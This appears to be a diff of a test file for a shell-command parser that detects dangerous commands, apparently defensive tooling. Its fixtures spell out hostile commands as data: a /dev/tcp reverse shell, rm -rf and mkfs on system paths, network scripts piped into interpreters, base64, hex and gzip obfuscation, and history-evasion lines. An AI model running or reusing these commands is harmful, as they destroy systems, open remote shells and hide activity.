@@ -27,7 +27,7 @@ def _find(result: ParseResult, name: str, *args: str) -> SimpleCommand:
     for command in result.commands:
         if command.name == name and command.args[: len(args)] == list(args):
             return command
-    raise AssertionError("no %s %s in %s" % (name, list(args), _argvs(result)))
+    raise AssertionError(f"no {name} {list(args)} in {_argvs(result)}")
 
 
 def _has(result: ParseResult, name: str, *args: str) -> bool:
@@ -83,8 +83,12 @@ EXECUTED = [
     ("docker_exec", "docker exec -it db psql -c 'DROP TABLE x'", ["psql", "-c", "DROP TABLE x"], None),
     ("docker_run", "docker run --rm -v /:/host alpine chroot /host sh", ["chroot", "/host", "sh"], None),
     ("ssh_remote", "ssh -p 2222 admin@db.example 'sudo reboot'", ["reboot"], None),
-    ("ssh_options_after_host", "ssh bastion -N -L 5432:db:5432", ["ssh", "bastion", "-N", "-L", "5432:db:5432"],
-     None),
+    (
+        "ssh_options_after_host",
+        "ssh bastion -N -L 5432:db:5432",
+        ["ssh", "bastion", "-N", "-L", "5432:db:5432"],
+        None,
+    ),
     # wrappers
     ("sudo", "sudo -u root -E rm -rf /etc", ["rm", "-rf", "/etc"], None),
     ("doas", "doas -u root mkfs /dev/sda", ["mkfs", "/dev/sda"], None),
@@ -192,6 +196,55 @@ EXECUTED = [
     ("wildcard_root", "rm -rf /*", ["rm", "-rf", "/*"], None),
     ("long_options", "rm --recursive --force /", ["rm", "--recursive", "--force", "/"], None),
     ("redirect_fd_tcp", "x=/dev/tcp/192.0.2.7/9; bash -i >& $x 0>&1", ["bash", "-i"], None),
+    # later additions: state the parser tracks across statements
+    ("custom_ifs", "IFS=,; c=shred,-u,/etc/passwd; $c", ["shred", "-u", "/etc/passwd"], "var_indirection"),
+    (
+        "read_here_string",
+        "read a b <<< 'shred -u'; $a $b /etc/shadow",
+        ["shred", "-u", "/etc/shadow"],
+        "var_indirection",
+    ),
+    ("written_script_run", "echo 'halt -p' > /tmp/s.sh; chmod +x /tmp/s.sh; /tmp/s.sh", ["halt", "-p"], None),
+    ("written_script_sh", "printf 'init 6\\n' > x.sh && sh x.sh", ["init", "6"], None),
+    ("written_script_tee", "echo reboot | tee /tmp/r.sh >/dev/null; bash /tmp/r.sh", ["reboot"], None),
+    (
+        "written_script_source",
+        "echo {} | base64 -d > /tmp/p; . /tmp/p".format("aGFsdCAtZg=="),
+        ["halt", "-f"],
+        "base64",
+    ),
+    ("sudo_s_stdin", "sudo -s <<< 'passwd -d root'", ["passwd", "-d", "root"], None),
+    ("sudo_env_assignment", "sudo LD_PRELOAD=/tmp/x.so apache2", ["apache2"], None),
+    ("empty_expansion", "sh${NOPE}red /dev/sda", ["shred", "/dev/sda"], "empty_expansion"),
+    ("empty_command_substitution", "r$()m -rf /etc", ["rm", "-rf", "/etc"], None),
+    ("sed_decoder", "echo 'hXlt' | sed 's/X/a/' | sh", ["halt"], "sed"),
+    ("python_heredoc", "python3 - <<'EOF'\nimport os\nos.system('halt')\nEOF", ["halt"], None),
+    (
+        "python_exec_base64",
+        "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaGFsdCcp'))\"",
+        ["halt"],
+        "base64",
+    ),
+    (
+        "perl_decode_base64",
+        "perl -MMIME::Base64 -e 'system(decode_base64(\"aGFsdA==\"))'",
+        ["halt"],
+        "base64",
+    ),
+    (
+        "node_buffer_base64",
+        "node -e \"require('child_process').execSync(Buffer.from('aGFsdA==','base64')+'')\"",
+        ["halt"],
+        "base64",
+    ),
+    ("perl_bare_exec", "perl -e 'exec \"/bin/sh\"'", ["sh"], None),
+    ("lua_execute", "lua -e \"os.execute('halt')\"", ["halt"], None),
+    ("apt_pre_invoke", "apt-get update -o APT::Update::Pre-Invoke::=/bin/sh", ["sh"], None),
+    ("ssh_stdin_shell", "ssh host bash -s <<< 'halt'", ["halt"], None),
+    ("docker_stdin_shell", "docker exec -i web sh <<< 'halt'", ["halt"], None),
+    ("pushd_wildcard", "pushd /etc; rm -rf *", ["rm", "-rf", "/etc/*"], "wildcard"),
+    ("unset_histfile", "unset HISTFILE", ["unset", "HISTFILE"], None),
+    ("export_histsize", "export HISTSIZE=0", ["export", "HISTSIZE=0"], None),
 ]
 
 
@@ -209,39 +262,49 @@ def _b64(text: str) -> str:
 
 
 DECODED = [
-    ("base64_pipe", "echo %s | base64 -d | sh" % _b64("userdel -r bob"), ["userdel", "-r", "bob"], "base64"),
-    ("base64_long_option", "echo %s | base64 --decode | bash" % _b64("halt"), ["halt"], "base64"),
+    (
+        "base64_pipe",
+        "echo {} | base64 -d | sh".format(_b64("userdel -r bob")),
+        ["userdel", "-r", "bob"],
+        "base64",
+    ),
+    ("base64_long_option", "echo {} | base64 --decode | bash".format(_b64("halt")), ["halt"], "base64"),
     (
         "base64_here_string",
-        "base64 -d <<< %s | bash" % _b64("chattr +i /etc/passwd"),
+        "base64 -d <<< {} | bash".format(_b64("chattr +i /etc/passwd")),
         ["chattr", "+i", "/etc/passwd"],
         "base64",
     ),
-    ("base64_bash_c", 'bash -c "$(echo %s | base64 -d)"' % _b64("crontab -r"), ["crontab", "-r"], "base64"),
+    (
+        "base64_bash_c",
+        'bash -c "$(echo {} | base64 -d)"'.format(_b64("crontab -r")),
+        ["crontab", "-r"],
+        "base64",
+    ),
     (
         "base64_eval",
-        'eval "$(echo %s | base64 --decode)"' % _b64("iptables -F"),
+        'eval "$(echo {} | base64 --decode)"'.format(_b64("iptables -F")),
         ["iptables", "-F"],
         "base64",
     ),
     (
         "base64_here_string_subst",
-        "bash <<< $(base64 -d <<< %s)" % _b64("setenforce 0"),
+        "bash <<< $(base64 -d <<< {})".format(_b64("setenforce 0")),
         ["setenforce", "0"],
         "base64",
     ),
-    ("base64_openssl", "echo %s | openssl base64 -d | sh" % _b64("halt -p"), ["halt", "-p"], "base64"),
+    ("base64_openssl", "echo {} | openssl base64 -d | sh".format(_b64("halt -p")), ["halt", "-p"], "base64"),
     (
         "base64_python",
-        "python3 -c \"import os,base64;os.system(base64.b64decode('%s'))\"" % _b64("reboot -f"),
+        "python3 -c \"import os,base64;os.system(base64.b64decode('{}'))\"".format(_b64("reboot -f")),
         ["reboot", "-f"],
         "base64",
     ),
-    ("hex_xxd", "echo %s | xxd -r -p | sh" % "halt -f".encode().hex(), ["halt", "-f"], "hex"),
-    ("hex_perl_pack", 'perl -e \'system(pack("H*","%s"))\'' % "reboot".encode().hex(), ["reboot"], "hex"),
+    ("hex_xxd", "echo {} | xxd -r -p | sh".format(b"halt -f".hex()), ["halt", "-f"], "hex"),
+    ("hex_perl_pack", 'perl -e \'system(pack("H*","{}"))\''.format(b"reboot".hex()), ["reboot"], "hex"),
     (
         "hex_perl_print_pipe",
-        'perl -e \'print pack("H*","%s")\' | sh' % "init 0".encode().hex(),
+        'perl -e \'print pack("H*","{}")\' | sh'.format(b"init 0".hex()),
         ["init", "0"],
         "hex",
     ),
@@ -253,19 +316,19 @@ DECODED = [
     ("rev", "echo 'f- tlah' | rev | sh", ["halt", "-f"], "rev"),
     (
         "gzip_base64",
-        "echo %s | base64 -d | gunzip | sh" % base64.b64encode(gzip.compress(b"halt -f")).decode(),
+        "echo {} | base64 -d | gunzip | sh".format(base64.b64encode(gzip.compress(b"halt -f")).decode()),
         ["halt", "-f"],
         "gzip",
     ),
     (
         "zcat_base64",
-        "echo %s | base64 -d | zcat | bash" % base64.b64encode(gzip.compress(b"reboot")).decode(),
+        "echo {} | base64 -d | zcat | bash".format(base64.b64encode(gzip.compress(b"reboot")).decode()),
         ["reboot"],
         "gzip",
     ),
     (
         "process_substitution_decoded",
-        "bash <(echo %s | base64 -d)" % _b64("poweroff"),
+        "bash <(echo {} | base64 -d)".format(_b64("poweroff")),
         ["poweroff"],
         "base64",
     ),
@@ -281,13 +344,13 @@ def test_parse_decodes_payloads_fed_to_a_shell(command: str, argv: list[str], la
 
 
 def test_parse_base64_only_printed_is_not_executed() -> None:
-    result = parse("echo %s | base64 -d" % _b64("rm -rf /"))
+    result = parse("echo {} | base64 -d".format(_b64("rm -rf /")))
     assert [c.name for c in result.commands] == ["echo", "base64"]
     assert "rm" not in result.normalized
 
 
 def test_parse_decoded_payload_origin_names_the_decoder() -> None:
-    result = parse("echo %s | base64 -d | sh" % _b64("halt"))
+    result = parse("echo {} | base64 -d | sh".format(_b64("halt")))
     assert _find(result, "halt").origin == "base64"
     assert _find(result, "halt").wrappers == ["sh"]
 
@@ -336,7 +399,7 @@ def test_parse_normalized_rendering(command: str, expected: str) -> None:
 
 
 def test_parse_normalized_shows_decoded_payload() -> None:
-    result = parse("echo %s | base64 -d | sh" % _b64("halt -f"))
+    result = parse("echo {} | base64 -d | sh".format(_b64("halt -f")))
     assert result.normalized.endswith(" ; halt -f")
 
 
@@ -361,7 +424,7 @@ def test_parse_pipeline_records_stdin_source() -> None:
     "decoder", ["base64 -d", "xxd -r -p", "gunzip", "rev", "tr a-z n-za-m", "tee /tmp/x"]
 )
 def test_parse_network_taint_survives_decoders(decoder: str) -> None:
-    result = parse("wget -qO- http://x.example/p | %s | bash" % decoder)
+    result = parse(f"wget -qO- http://x.example/p | {decoder} | bash")
     assert _find(result, "bash").stdin_is_network
 
 
@@ -506,6 +569,31 @@ def test_parse_alias_not_reexpanded_in_itself() -> None:
     assert [c.name for c in result.commands] == ["alias", "ls", "id"]
 
 
+def test_parse_interpreter_reading_network_program_is_dynamic() -> None:
+    for command in (
+        "curl -s http://x.example/p | python3",
+        "python3 <(curl -s http://x.example/p)",
+        "wget -qO- http://x.example/p | perl",
+    ):
+        result = parse(command)
+        interpreter = result.commands[-1]
+        assert interpreter.dynamic and interpreter.stdin_is_network, command
+        assert "dynamic_code" in result.flags
+
+
+def test_parse_data_piped_into_a_script_is_not_code() -> None:
+    result = parse("cat rows.json | python3 tools/check.py")
+    assert not result.flags
+    assert [c.name for c in result.commands] == ["cat", "python3"]
+
+
+def test_parse_dynamic_output_is_not_decoded() -> None:
+    # echo of an unknown variable prints something unknown: never parse a guess of it.
+    result = parse("echo $PAYLOAD | base64 -d | sh")
+    assert _find(result, "sh").dynamic
+    assert "dynamic_code" in result.flags
+
+
 def test_parse_deep_wrapper_chain() -> None:
     result = parse("sudo env nice timeout 5 nohup setsid stdbuf -o0 rm -rf /x")
     inner = _find(result, "rm")
@@ -565,7 +653,7 @@ def test_parse_deep_nested_shell_strings_are_capped() -> None:
 
 
 def test_parse_is_thread_safe() -> None:
-    commands = ["sudo rm -rf /%d" % i for i in range(50)]
+    commands = [f"sudo rm -rf /{i}" for i in range(50)]
     outputs: dict[int, list[str]] = {}
 
     def work(index: int) -> None:
@@ -576,7 +664,7 @@ def test_parse_is_thread_safe() -> None:
         thread.start()
     for thread in threads:
         thread.join()
-    expected = ["sudo rm -rf /%d" % i for i in range(50)]
+    expected = [f"sudo rm -rf /{i}" for i in range(50)]
     assert all(value == expected for value in outputs.values())
 
 
